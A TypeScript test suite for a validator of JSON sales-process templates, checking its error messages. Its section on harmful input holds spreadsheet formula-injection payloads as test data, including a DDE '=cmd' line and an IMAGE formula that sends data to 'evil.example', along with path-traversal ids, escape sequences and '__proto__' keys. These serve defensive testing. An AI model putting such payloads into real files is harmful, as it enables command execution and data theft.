/** What is wrong with a template, and where. */
import { judgeDocument } from "../../../src/templates/document/judge";
import { longestDocument, parseDocument, readDocument } from "../../../src/templates/document/parse";
import { sayProblem } from "../../../src/templates/document/problem";
import { registry } from "../../registry";
import { acmeDocument, acmeJson } from "./acme";

/** The document with something else at a path. */
const withAt = (path: readonly (string | number)[], value: unknown): Record<string, unknown> => {
  const document = acmeJson();
  let at = document as Record<string | number, unknown>;
  for (const step of path.slice(0, -1)) at = (at[step] ??= {}) as Record<string | number, unknown>;
  const last = path.at(-1) ?? "";
  at[last] = value;
  return document;
};

const said = (value: unknown, language: "en" | "zh" = "en"): readonly string[] => {
  const reading = readDocument(value);
  if (reading.kind === "too-new") return ["too new"];
  const problems = reading.kind === "wrong" ? reading.problems : judgeDocument(reading.document, registry);
  return problems.map((one) => sayProblem(one, language));
};

test("a template that says everything is accepted", () => expect(said(acmeJson())).toEqual([]));

test.each<readonly [path: readonly (string | number)[], value: unknown, message: string]>([
  [["process", "stages", 2, "probability"], 1.4, "process.stages[2].probability: 1.4 is over 1"],
  [["process", "stages", 2, "probability"], "half", "process.stages[2].probability: “half” is not a number"],
  [["process", "stages", 3, "probability"], 0.3, "process.stages[3].probability: 0.3 is under that of the stage before, 0.5"],
  [["process", "stages"], [], "process.stages: has fewer than 4 entries"],
  [["name"], undefined, 'name: is missing; a text, or {"en": …, "zh": …}, is expected'],
  [["name"], 7, 'name: 7 is not accepted; a text, or {"en": …, "zh": …}'],
  [["name", "en"], "=1+1", "name.en: “=1+1” begins like a formula; begin with a letter or a digit"],
  [["version"], 0, "version: 0 is under 1"],
  [["version"], 1.5, "version: 1.5 is not a whole number"],
  [["state"], "old", "state: “old” is none of draft, active, retired"],
  [["base"], "no-such", "base: “no-such” is no built-in template; there are complex-sale, fleet, solution, retail"],
  [["colour"], "red", "colour: is not known here"],
  [["look", "brand"], "red", "look.brand: “red” does not have the form /^#[0-9A-Fa-f]{6}$/"],
  [["look", "brand"], "#FFCC00", "look.brand: #FFCC00 is too light for white text: 1.5 to 1, and 4.5 is needed"],
  [["sizes"], { nothing: "light" }, "sizes.nothing: “nothing” is no section; there are "],
  [
    ["ownColumns", "opportunities", 1, "formula"],
    "=WEBSERVICE(1)",
    "ownColumns.opportunities[1].formula: “WEBSERVICE” may not stand in it",
  ],
  [["ownColumns", "opportunities", 1, "formula"], "=Lists!A1", "ownColumns.opportunities[1].formula: “Lists!A1” may not stand in it"],
  [["ownColumns", "opportunities", 1, "formula"], "={commission}+1", "ownColumns.opportunities[1].formula: computes from itself"],
  [["ownColumns", "opportunities", 1, "formula"], "={nothing}", "ownColumns.opportunities[1].formula: “nothing” is no column of its table"],
  [
    ["ownColumns", "account"],
    [{ id: "next", header: "Next year", kind: "money", formula: "={revenue}*1.1" }],
    "ownColumns.account[0].formula: a list of fields takes fields to be filled only",
  ],
  [
    ["ownColumns", "account"],
    [{ id: "turnover", header: "Revenue", kind: "money" }],
    "ownColumns.account[0].header: “Revenue” is called so twice",
  ],
  [["columns", "account", "revenue"], { hidden: true }, "columns.account.revenue.hidden: is a field of a list, which shows all of them"],
  [["ownColumns", "opportunities", 1, "header"], "Stage", "ownColumns.opportunities[1].header: “Stage” is called so twice"],
  [["words", "role", "own", "boss"], { label: "Boss" }, "words.role.own.boss: “boss” is no word of it; there are "],
  [["words", "role", "own", "decision-maker", "label"], "User", "is the method’s word for"],
  [["words", "stage"], { own: {} }, "words.stage: is said by the process already"],
  [["numbers", "role", "boss"], 3, "numbers.role.boss: “boss” is no number of it"],
  [["columns", "opportunities", "name"], { hidden: true }, "columns.opportunities.name.hidden: names the row and cannot be hidden"],
  [["rows", "competitors", 0, "nothing"], 1, "rows.competitors[0].nothing: “nothing” is no column to be filled"],
  [["example"], { rows: { nothing: [] } }, "example.rows.nothing: “nothing” is no table"],
  [["example"], { rows: { stakeholders: [{ nothing: 1 }] } }, "example.rows.stakeholders[0].nothing: “nothing” is no column to be filled"],
  [["example"], { rows: { opportunities: [{ commission: 1 }] } }, "example.rows.opportunities[0].commission: “commission” is no column"],
  [["example"], { rows: { stakeholders: [{ name: "=1+1" }] } }, "example.rows.stakeholders[0].name: “=1+1”"],
  [["example"], { rows: { stakeholders: Array.from({ length: 41 }, () => ({ name: "x" })) } }, "has more than 40 entries"],
  [["example"], { day: "2026-13-01", rows: {} }, "example.day: “2026-13-01” is no day"],
  [["process", "stages", 0, "buyer"], "=1+1", "process.stages[0].buyer: “=1+1” begins like a formula"],
  [["locks", "sheets", 0], "nowhere", "locks.sheets[0]: “nowhere” is no sheet"],
  [["mappings", "deals"], {}, "mappings.deals: “deals” is no table"],
  [["mappings", "opportunities", "Betrag"], "sum", "mappings.opportunities.Betrag: “sum” is no column to be filled"],
  [
    ["mappings", "opportunities", "Betrag"],
    { dates: "day-first" },
    'mappings.opportunities.Betrag: {"dates":"day-first"} is no column to be filled',
  ],
  [["mappings", "opportunities", "Betrag"], "commission", "mappings.opportunities.Betrag: “commission” is no column to be filled"],
])("%j: %j", (path, value, message) => expect(said(withAt(path, value)).join("\n")).toContain(message));

test("in Chinese as well", () =>
  expect(said(withAt(["process", "stages", 2, "probability"], 1.4), "zh")).toEqual(["process.stages[2].probability：1.4 大于 1"]));

describe("what is no template of this version", () => {
  test("no JSON", () => expect(parseDocument("{")).toMatchObject({ kind: "wrong" }));
  test("a list", () => expect(readDocument([])).toMatchObject({ kind: "wrong" }));
  test("one of a later format is told apart", () =>
    expect(readDocument({ ...acmeJson(), format: 2 })).toEqual({ kind: "too-new", format: 2 }));
  test("a giant", () => expect(parseDocument(" ".repeat(longestDocument + 1))).toMatchObject({ kind: "wrong" }));
  test("one that is nested without end", () => {
    const deep = JSON.parse("[".repeat(500) + "]".repeat(500)) as unknown;
    expect(readDocument({ ...acmeJson(), guidance: deep })).toMatchObject({ kind: "wrong" });
  });
  test("giant lists", () =>
    expect(
      said(
        withAt(
          ["rows", "competitors"],
          Array.from({ length: 5000 }, () => ({ name: "x" })),
        ),
      ),
    ).toEqual(["rows.competitors: has more than 400 entries"]));
  test("a name that every object has", () => expect(said(JSON.parse('{"__proto__":{"x":1},"format":1}')).length).toBeGreaterThan(0));
});

test("an earlier format is brought forward by its migrations, one after the other", () => {
  const steps = {
    [-1]: ({ title, ...draft }: Readonly<Record<string, unknown>>) => ({ ...draft, name: title }),
    0: (draft: Readonly<Record<string, unknown>>) => ({ ...draft, state: "active" }),
  };
  const { name: title, ...old } = acmeJson();
  expect(readDocument({ ...old, title, state: "old", format: -1 }, steps)).toEqual({ kind: "read", document: acmeDocument() });
});

test("files may be read into columns of the method and of the company, and into none", () => {
  const opportunities = { Betrag: "amount", Gebiet: { column: "region" }, Chef: "owner.first", Phase: "stage, kept", Id: "record id" };
  expect(said(withAt(["mappings"], { opportunities }))).toEqual([]);
});

describe("what is made to harm is refused, and said where", () => {
  const formula = (text: string): string => said(withAt(["ownColumns", "opportunities", 1, "formula"], text)).join("\n");

  test.each([
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("https://evil.example")',
    '=IMAGE("https://evil.example/"&{amount})',
    "=FILTERXML(1,2)",
    '=CALL("a","b")',
    '=INDIRECT("A1")',
    "=A1",
    "=$A:$A",
    "=Table1[Amount]",
    "='[other.xlsx]Sheet1'!A1",
    "=KAM_Words",
    "=LET(a,1,a)",
    "=LAMBDA(x,x)(1)",
    "={1;2}",
    "=@{amount}",
    "={amount}#",
    "=_xlfn.WEBSERVICE(1)",
    "+1",
    "@SUM(1)",
  ])("a formula %s", (text) => expect(formula(text)).toContain("ownColumns.opportunities[1].formula: "));

  test("a circle of columns that compute from each other, at each of them", () => {
    const column = (id: string, reads: string) => ({ id, header: id, kind: "number", formula: `={${reads}}+1` });
    const circle = [column("a", "b"), column("b", "c"), column("c", "a"), column("d", "a")];
    expect(said(withAt(["ownColumns"], { opportunities: circle }))).toEqual(
      [0, 1, 2].map((index) => `ownColumns.opportunities[${index.toString()}].formula: computes from itself`),
    );
  });

  test.each(["../acme", "..", "/etc/passwd", "a/b", "a\\b", "C:", "acme.json", "ACME", "a b", "", "-", "a--b", "x".repeat(61)])(
    "an id %j",
    (id) => expect(said({ ...acmeJson(), id })[0]).toMatch(/^id: /),
  );

  test.each(["=1", "+1", "-1", "@x", "a\u0000", "\u001b[2J"])("a text %j, wherever it stands", (text) => {
    for (const path of [["name"], ["purpose", "zh"], ["process", "stages", 0, "label"], ["guidance", "opportunities"]])
      expect(said(withAt(path, text)).join("\n")).toContain(path[0]);
    expect(said(withAt(["rows", "competitors", 0, "competitor"], text))).toHaveLength(1);
  });

  test("markup is a text like any other", () => expect(said({ ...acmeJson(), name: "<script>alert(1)</script>" })).toEqual([]));

  test.each<readonly [what: string, path: readonly (string | number)[], value: unknown, message: string]>([
    ["stages", ["process", "stages"], Array.from({ length: 8 }, () => ({})), "process.stages: has more than 7 entries"],
    [
      "own columns",
      ["ownColumns", "opportunities"],
      Array.from({ length: 31 }, () => ({})),
      "ownColumns.opportunities: has more than 30 entries",
    ],
    ["words", ["ownColumns", "opportunities", 0, "words"], Array.from({ length: 61 }, () => "x"), "words: has more than 60 entries"],
    ["languages", ["languages"], ["en", "zh", "en"], "languages: has more than 2 entries"],
    ["characters", ["purpose", "en"], "x".repeat(1001), "purpose.en: has more than 1000 characters"],
    ["a picture", ["look", "logo"], `iVBORw0KGgo${"A".repeat(200_000)}`, "look.logo: has more than 200000 characters"],
    ["another kind of picture", ["look", "logo"], "PHN2Zz4=", "look.logo: "],
  ])("too many or too large: %s", (_what, path, value, message) => expect(said(withAt(path, value)).join("\n")).toContain(message));

  test("names that every object has are no tables, columns or words", () => {
    for (const name of ["__proto__", "constructor", "toString"]) {
      const odd = JSON.parse(`{"${name}":{"x":{"hidden":true}}}`) as unknown;
      for (const part of ["columns", "numbers", "words", "mappings", "rows", "ownColumns"]) {
        const problems = said({ ...acmeJson(), [part]: odd });
        // What JSON calls __proto__ is left out by the reading.
        expect(problems).toEqual(name === "__proto__" ? [] : [expect.stringContaining(`${part}.${name}`)]);
      }
    }
  });
});
